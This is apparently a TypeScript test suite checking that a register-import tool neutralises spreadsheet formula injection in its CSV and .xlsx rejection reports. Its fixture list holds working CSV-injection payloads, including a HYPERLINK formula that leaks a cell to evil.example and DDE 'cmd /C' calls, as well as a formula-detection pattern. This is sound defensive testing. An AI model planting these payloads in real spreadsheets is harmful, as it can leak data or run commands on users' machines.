import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { inertCell } from "../tools/import/report";
import { REGISTER_HEADER } from "../tools/import/sample-register";
import { entryArgs } from "./support/entry";
import { startStack, type TestStack } from "./support/stack";
import { bearer } from "./support/subgraph";

/**
 * The import's report of rejected rows quotes the register's own cells. A crafted register
 * puts formulas there; the report, opened in a spreadsheet, must show them as text (OWASP's
 * rule: a leading single quote, the cell quoted), in CSV and in .xlsx.
 */
const run = promisify(execFile);
const token = bearer("org-rc-tyumen").authorization.replace("Bearer ", "");
const folder = mkdtempSync(join(tmpdir(), "csv-injection-"));

/** Cells a spreadsheet would evaluate, each in a column the API rejects and quotes back. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Открыть")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "=cmd|' /C notepad'!'A1'",
];

let stack: TestStack;
let register: string;

beforeAll(async () => {
  stack = await startStack();
  register = join(folder, "register.csv");
  const rows = FORMULAS.map((formula, index) =>
    [
      String(index + 1),
      "28.03.2024",
      "15.03.2024",
      "Департамент социального развития Тюменской области",
      `АНО «Формула ${index}»`,
      "",
      formula,
      "625000, г. Тюмень",
      "88.99",
      "финансовая",
      "1000,00",
      "",
    ]
      .map((cell) => `"${cell.replace(/"/g, '""')}"`)
      .join(";"),
  );
  writeFileSync(register, `${REGISTER_HEADER.join(";")}\n${rows.join("\n")}\n`);
});

afterAll(() => stack.close());

async function importTo(report: string) {
  const args = ["--centre", "org-rc-tyumen", "--token", token, "--file", register];
  await run(process.execPath, [
    ...entryArgs("tools/import/index.ts"),
    ...args,
    "--gateway",
    stack.gateway.url,
    "--dry-run",
    "--report",
    report,
  ]);
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe("the import report", () => {
  it("writes every formula cell of a CSV report quoted and behind a single quote", async () => {
    const report = join(folder, "report.csv");
    await importTo(report);
    const text = readFileSync(report, "utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map(({ value }) => value)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA_START);
    // Each neutralised cell is quoted in the file, as the rule asks.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Открыть"")"`);
  });

  it("writes an .xlsx report with text cells only, neutralised the same way", async () => {
    const report = join(folder, "report.xlsx");
    await importTo(report);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(report);
    const sheet = workbook.worksheets[0];
    const values: string[] = [];
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number]).toContain(cell.type);
        if (typeof cell.value === "string") expect(cell.value).not.toMatch(FORMULA_START);
      });
      values.push(String(row.getCell(3).value));
    });
    expect(values).toEqual(FORMULAS.map((formula) => `'${formula}`));
  });

  it("also neutralises a leading tab or carriage return (the reader trims them from cells)", () => {
    expect(inertCell("\t=1+1")).toBe("'\t=1+1");
    expect(inertCell("\r=1+1")).toBe("'\r=1+1");
    expect(inertCell("Тюмень = столица")).toBe("Тюмень = столица");
  });

  it("leaves a JSON report's values as they were: JSON is not opened as a sheet", async () => {
    const report = join(folder, "report.json");
    await importTo(report);
    const lines = JSON.parse(readFileSync(report, "utf8")) as { value: string }[];
    expect(lines.map(({ value }) => value)).toEqual(FORMULAS);
  });
});
